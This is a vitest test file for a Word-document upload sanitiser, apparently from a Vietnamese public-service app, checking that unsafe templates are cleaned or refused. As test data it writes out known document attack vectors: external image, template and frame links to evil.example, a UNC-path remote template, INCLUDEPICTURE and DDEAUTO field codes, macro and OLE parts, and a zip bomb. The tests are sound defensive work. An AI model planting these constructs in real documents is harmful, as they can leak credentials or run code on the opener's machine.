import { describe, expect, test } from "vitest";
import { ZipFile } from "yazl";
import { namesIn, partOf } from "../test-docx";
import { MAX_TEMPLATE_BYTES } from "./constants";
import { cleanDocx } from "./package";

const MOMENT = new Date("2025-03-31T01:00:00Z");
const TYPES = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const BODY = '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>{{ten_phong_trao}}</w:t></w:r></w:p></w:body></w:document>';
const BASE = { "[Content_Types].xml": TYPES(WORD), "word/document.xml": BODY };

async function zipOf(parts: Readonly<Record<string, string | Buffer>>): Promise<Uint8Array> {
  const zip = new ZipFile();
  for (const [name, text] of Object.entries(parts)) zip.addBuffer(Buffer.from(text), name);
  zip.end();
  const pieces: Buffer[] = [];
  for await (const piece of zip.outputStream) pieces.push(Buffer.from(piece as Uint8Array));
  return Uint8Array.from(Buffer.concat(pieces));
}

async function codeOf(bytes: Uint8Array): Promise<string | null> {
  const result = await cleanDocx(bytes, MOMENT);
  return result.ok ? null : result.reasons[0].code;
}

describe("a Word document that somebody uploads", () => {
  test("is kept as it is when nothing is wrong with it", async () => {
    const clean = await cleanDocx(await zipOf(BASE), MOMENT);
    if (!clean.ok) throw new Error("a plain document is kept");
    expect(partOf(clean.value, "word/document.xml")).toBe(BODY);
    expect(namesIn(clean.value)).toEqual(Object.keys(BASE));
  });

  test("reaches nothing outside any more: pictures, templates and frames lead nowhere; links that are clicked stay", async () => {
    const relationship = (type: string, target: string) =>
      `<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
    const rels = `<Relationships>${relationship("image", "http://evil.example/p.png")}${relationship("attachedTemplate", "\\\\evil\\t.dotm")}${relationship("frame", "http://evil.example/f")}${relationship("hyperlink", "https://dichvucong.gov.vn/")}</Relationships>`;
    const clean = await cleanDocx(await zipOf({ ...BASE, "word/_rels/document.xml.rels": rels }), MOMENT);
    if (!clean.ok) throw new Error("it is cleaned, not refused");
    const text = partOf(clean.value, "word/_rels/document.xml.rels");
    expect(text).not.toContain("evil");
    expect(text).toContain("https://dichvucong.gov.vn/");
  });

  test("is refused with what to do when it is something else", async () => {
    expect(await codeOf(new Uint8Array())).toBe("papers.templateEmpty");
    expect(await codeOf(new Uint8Array(MAX_TEMPLATE_BYTES + 1))).toBe("papers.templateTooBig");
    expect(await codeOf(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0]))).toBe("papers.templateOld");
    expect(await codeOf(Buffer.from("%PDF-1.7"))).toBe("papers.templateNotWord");
    expect(await codeOf(Buffer.from("PK\u0003\u0004 cut off"))).toBe("papers.templateNotWord");
    expect(await codeOf(await zipOf({ "xl/workbook.xml": "<x/>" }))).toBe("papers.templateNotWord");
    expect(await codeOf(await zipOf({ ...BASE, "word/vbaProject.bin": "x" }))).toBe("papers.templateMacro");
    const macro = TYPES("application/vnd.ms-word.document.macroEnabled.main+xml");
    expect(await codeOf(await zipOf({ ...BASE, "[Content_Types].xml": macro }))).toBe("papers.templateMacro");
    expect(await codeOf(await zipOf({ ...BASE, "word/embeddings/oleObject1.bin": "x" }))).toBe("papers.templateEmbedded");
  });

  test("is refused when a field fetches something, also one whose instruction is cut into runs", async () => {
    const field = (...runs: string[]) => runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join("");
    const withField = (xml: string) => zipOf({ ...BASE, "word/document.xml": BODY.replace("<w:body>", `<w:body><w:p>${xml}</w:p>`) });
    expect(await codeOf(await withField(field(' INCLUDEPICTURE "http://evil.example/p.png" ')))).toBe("papers.templateFetches");
    expect(await codeOf(await withField(field(" DDE", "AUTO excel ")))).toBe("papers.templateFetches");
    expect(await codeOf(await withField('<w:fldSimple w:instr=" LINK Excel.Sheet.8 "/>'))).toBe("papers.templateFetches");
    expect(await codeOf(await withField(field(" PAGE ", " MERGEFORMAT ")))).toBeNull();
  });

  test("is stopped while it unpacks, whatever it says about its size", async () => {
    const bomb = await zipOf({ ...BASE, "word/media/a.bmp": Buffer.alloc(61 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(MAX_TEMPLATE_BYTES);
    expect(await codeOf(bomb)).toBe("papers.templateBomb");
  });
});
